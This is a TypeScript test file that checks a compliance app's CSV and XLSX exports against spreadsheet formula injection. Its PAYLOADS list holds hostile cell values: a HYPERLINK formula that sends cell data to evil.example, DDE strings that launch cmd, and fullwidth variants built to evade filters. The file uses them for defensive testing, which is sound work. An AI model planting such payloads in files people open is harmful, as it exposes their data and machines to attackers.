import { seedsCorpus } from '../../src/lib/corpus/seeds-corpus';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { Comparison } from '../../src/lib/domain/compare';
import { actionPlanColumns, type ActionPlanRow } from '../../src/lib/domain/action-plan';
import { FORMULA_STARTS } from '../../src/lib/server/documents/csv';
import {
	actionPlanCsvText,
	actionPlanWorkbook,
	type ActionPlan
} from '../../src/lib/server/documents/action-plan';
import { comparisonCsv } from '../../src/lib/server/documents/comparison-csv';
import { questionnaireTemplateWorkbook } from '../../src/lib/server/documents/questionnaire-template';
import { statusLookup } from '../../src/lib/server/documents/template-statuses';
import { readTemplateWithLimits } from '../../src/lib/server/documents/uploads/read-template';
import { readTemplateRows, sameAnswer } from '../../src/lib/domain/template-import';

/** What a respondent may type into a note or an owner, aimed at whoever opens the file. */
const PAYLOADS = [
	'=HYPERLINK("http://evil.example/?"&A1,"Click")',
	"+cmd|' /C calc'!A0",
	'-2+3',
	"@SUM(1+1)*cmd|' /C calc'!A0",
	'\t=1+1',
	'\r=1+1',
	'＝1+1',
	'＋1',
	'－1',
	'＠SUM(A1)',
	'line one\nline two',
	'line one\r\nline two\rline three',
	'say "hello", then, "bye"',
	'"quoted"',
	'trailing comma,',
	'普通的中文，逗号'
];

/** The text a spreadsheet shows for a neutralised cell: the prefix `'` is Excel's "this is text". */
const shown = (cell: string) => (cell.startsWith("'") ? cell.slice(1) : cell);
const startsLikeFormula = (cell: string) => FORMULA_STARTS.some((c) => cell.startsWith(c));
/** XML holds no bare CR: a workbook stores every line break as LF. */
const xmlText = (s: string | null) => s?.replace(/\r\n?/g, '\n') ?? null;
const parseCsv = (text: string): string[][] => parse(text, { bom: true, relax_quotes: false });

function hostilePlan(): ActionPlan {
	const rows: ActionPlanRow[] = PAYLOADS.map((p, i) => ({
		item: `LIC-${String(i + 1).padStart(3, '0')}`,
		question: p,
		provision: `${p}\n第五十条`,
		severity: p,
		finding: p,
		remediation: p,
		owner: p,
		due: i % 2 ? '2027-01-31' : null,
		status: p,
		actionStatus: p
	}));
	return {
		firm: '=evil',
		date: '2026-12-01',
		title: '=Plan',
		header: [...PAYLOADS.slice(0, actionPlanColumns.length)],
		rows
	};
}

describe('CSV exports open safely in any spreadsheet', () => {
	it('parses the action plan back to the same rows and columns, with no cell starting like a formula', () => {
		const plan = hostilePlan();
		const text = actionPlanCsvText(plan);
		expect(text.startsWith('\ufeff')).toBe(true);
		const records = parseCsv(text);
		const expected = [
			plan.header,
			...plan.rows.map((r) => actionPlanColumns.map((c) => r[c] ?? ''))
		];
		expect(records).toHaveLength(expected.length);
		for (const [i, record] of records.entries()) {
			expect(record).toHaveLength(actionPlanColumns.length);
			expect(record.map(shown)).toEqual(expected[i]);
			for (const cell of record) expect(startsLikeFormula(cell), cell).toBe(false);
		}
	});

	it('keeps the comparison’s changes numbers and its text inert', () => {
		const label = (s: string) => ({ zh: s, en: s });
		const comparison = {
			overall: { before: 0.4, after: 0.45, delta: 0.05 },
			domains: PAYLOADS.map((p, i) => ({
				id: `D${i}`,
				label: label(p),
				before: 0.5,
				after: i % 2 ? 0.2 : 0.9,
				delta: i % 2 ? -0.3 : 0.4
			})),
			items: PAYLOADS.map((p, i) => ({
				itemId: `LIC-${i}`,
				domain: `D${i}`,
				question: label(p),
				change: 'improved' as const,
				before: 'partial' as const,
				after: 'compliant' as const
			})),
			counts: {}
		} as unknown as Comparison;
		const records = parseCsv(comparisonCsv(comparison));
		expect(records).toHaveLength(1 + 1 + PAYLOADS.length * 2);
		expect(records.every((r) => r.length === 7)).toBe(true);
		expect(records[1]![6]).toBe('5');
		const domains = records.filter((r) => r[0] === 'domain');
		expect(domains.map((r) => Number(r[6]))).toEqual(PAYLOADS.map((_, i) => (i % 2 ? -30 : 40)));
		expect(domains.map((r) => shown(r[2]!))).toEqual(PAYLOADS);
		expect(records.filter((r) => r[0] === 'item').map((r) => shown(r[3]!))).toEqual(PAYLOADS);
		for (const record of records)
			// A change of points is a number: the only cells allowed to start with a minus.
			for (const cell of record)
				expect(startsLikeFormula(cell) && !/^-\d+$/.test(cell), cell).toBe(false);
	});
});

describe('XLSX exports hold text, never formulas', { timeout: 60_000 }, () => {
	it('writes every free-text payload of the action plan as a text cell with the same value', async () => {
		const plan = hostilePlan();
		const workbook = new ExcelJS.Workbook();
		await workbook.xlsx.load((await actionPlanWorkbook(plan)) as unknown as ExcelJS.Buffer);
		const sheet = workbook.worksheets[0]!;
		for (const [i, row] of plan.rows.entries())
			for (const [c, column] of actionPlanColumns.entries()) {
				if (column === 'due') continue;
				const cell = sheet.getRow(i + 2).getCell(c + 1);
				expect(cell.type).toBe(ExcelJS.ValueType.String);
				expect(cell.value).toBe(xmlText(row[column]));
			}
	});

	it('round-trips formula-like notes and owners through the questionnaire template unchanged', async () => {
		const corpus = seedsCorpus();
		const items = corpus.items.slice(0, PAYLOADS.length);
		const answers = new Map(
			items.map((item, i) => [
				item.id,
				{
					status: 'partial' as const,
					note: PAYLOADS[i]!.trim(),
					evidence: [PAYLOADS[(i + 1) % PAYLOADS.length]!.replace(/\s+/g, ' ').trim()],
					owner: PAYLOADS[(i + 2) % PAYLOADS.length]!.trim(),
					due: null
				}
			])
		);
		const bytes = await questionnaireTemplateWorkbook({
			title: '=title',
			versionHash: 'abc',
			updatedAt: new Date('2026-12-01T00:00:00Z'),
			items,
			domains: corpus.domains,
			answers,
			lang: 'en'
		});
		const sheet = await readTemplateWithLimits(bytes);
		if (!sheet.ok) throw new Error(`the template did not read back: ${JSON.stringify(sheet)}`);
		const read = readTemplateRows(sheet.rows, new Map(items.map((i) => [i.id, i])), statusLookup());
		expect(read.problems).toEqual([]);
		for (const answer of read.answers) {
			const stored = answers.get(answer.itemId)!;
			expect(answer.values.note).toBe(xmlText(stored.note));
			expect(answer.values.owner).toBe(xmlText(stored.owner));
			expect(answer.values.evidence).toEqual(stored.evidence);
			// So the import sees nothing to save.
			expect(sameAnswer(answer.values, stored)).toBe(true);
		}
		expect(read.answers).toHaveLength(items.length);
	});
});
